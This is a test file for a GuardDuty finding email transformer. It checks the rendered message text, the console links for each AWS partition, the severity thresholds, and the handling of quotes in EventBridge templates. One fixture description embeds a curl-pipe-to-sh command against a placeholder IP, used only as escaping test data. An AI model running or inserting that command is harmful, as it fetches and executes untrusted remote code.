import {
  CONSTRAINED_PLACEHOLDERS, FINDING_INPUT_PATHS, checked, emailInputTransformer, placeholdersInsideQuotes,
} from "../../modules/notifications/email-transformer";
import { renderText } from "./eventbridge-renderer";
import { findingEvent } from "./sample-finding";

const email = emailInputTransformer({ partition: "aws", minSeverity: 4 });

test("renders the message of the GuardDuty documentation: severity, type, account, region, title, description, link", () => {
  const text = renderText(email, findingEvent({ region: "us-east-1", severity: 8 }), "guardduty-notifications-sev4-1");
  expect(text).toBe([
    "GuardDuty finding with severity 8 in account 444455556666, region us-east-1:",
    "UnauthorizedAccess:EC2/SSHBruteForce",
    "",
    "Title:",
    "198.51.100.7 is performing SSH brute force attacks against i-99999999.",
    "",
    "Description:",
    "198.51.100.7 is performing SSH brute force attacks against i-99999999. Brute force attacks are used to gain unauthorized access to your instance by guessing the SSH password.",
    "",
    "Open the finding in the GuardDuty console of the administrator account:",
    "https://console.aws.amazon.com/guardduty/home?region=us-east-1#/findings?macros=current&fId=76b8a3f4bd1a2c6e9f0a1b2c3d4e5f60",
    "",
    "Finding ID: 76b8a3f4bd1a2c6e9f0a1b2c3d4e5f60",
    "Severity levels: LOW 1.0-3.9, MEDIUM 4.0-6.9, HIGH 7.0-8.9, CRITICAL 9.0-10.0.",
    "Sent by EventBridge rule guardduty-notifications-sev4-1 for findings of severity 4.0 (MEDIUM) and above.",
  ].join("\n"));
});

test("keeps quotes, backslashes and line breaks of the title and description intact", () => {
  const description = 'The user "admin" ran:\n  curl "http://203.0.113.9/x.sh" | sh\nPath: C:\\temp\\a.ps1 <script>';
  const title = 'Unusual "GetSecretValue" calls';
  const text = renderText(email, findingEvent({ title, description }));
  const lines = text.split("\n");
  expect(lines[4]).toBe(title);
  expect(text).toContain(`Description:\n${description}\n`);
});

test("a template with the description inside quotes, as the documentation's example has it, breaks on a quote", () => {
  const naive = { inputPaths: FINDING_INPUT_PATHS, inputTemplate: '"Finding Description:"\n"<description>."' };
  expect(() => renderText(naive, findingEvent({ description: 'user "admin"' }))).toThrow(/not valid JSON after substitution/);
  expect(() => renderText(naive, findingEvent({ description: "two\nlines" }))).toThrow(/not valid JSON after substitution/);
  expect(() => checked(naive)).toThrow("input template places free-text values inside quotes, where EventBridge does not escape them: description");
});

test("only constrained values are placed inside quoted text", () => {
  const inQuotes = placeholdersInsideQuotes(email.inputTemplate);
  expect(inQuotes.length).toBeGreaterThan(0);
  for (const p of inQuotes) expect(CONSTRAINED_PLACEHOLDERS).toContain(p);
  expect(email.inputTemplate).toContain("\n<title>\n");
  expect(email.inputTemplate).toContain("\n<description>\n");
});

test("links to the console domain of the partition", () => {
  const gov = renderText(emailInputTransformer({ partition: "aws-us-gov", minSeverity: 7 }), findingEvent({ region: "us-gov-west-1" }));
  expect(gov).toContain("https://console.amazonaws-us-gov.com/guardduty/home?region=us-gov-west-1#/findings?macros=current&fId=76b8a3f4bd1a2c6e9f0a1b2c3d4e5f60");
  const cn = renderText(emailInputTransformer({ partition: "aws-cn", minSeverity: 7 }), findingEvent({ region: "cn-north-1" }));
  expect(cn).toContain("https://console.amazonaws.cn/guardduty/home?region=cn-north-1#");
});

test("says which threshold the rule applies", () => {
  expect(renderText(emailInputTransformer({ partition: "aws", minSeverity: 9 }), findingEvent())).toContain("severity 9.0 (CRITICAL) and above.");
});

test("reads only fields every finding has", () => {
  expect(email.inputPaths).toEqual({
    severity: "$.detail.severity", findingType: "$.detail.type", accountId: "$.detail.accountId", region: "$.detail.region",
    findingId: "$.detail.id", title: "$.detail.title", description: "$.detail.description", updatedAt: "$.detail.updatedAt",
  });
});

test("placeholdersInsideQuotes ignores escaped quotes", () => {
  expect(placeholdersInsideQuotes('"a \\"<x>\\" b" <y> "<z>"')).toEqual(["x", "z"]);
});

test("fails on a placeholder without an input path", () => {
  expect(() => checked({ inputPaths: {}, inputTemplate: "<title>" })).toThrow("input template uses placeholders without an input path: title");
});
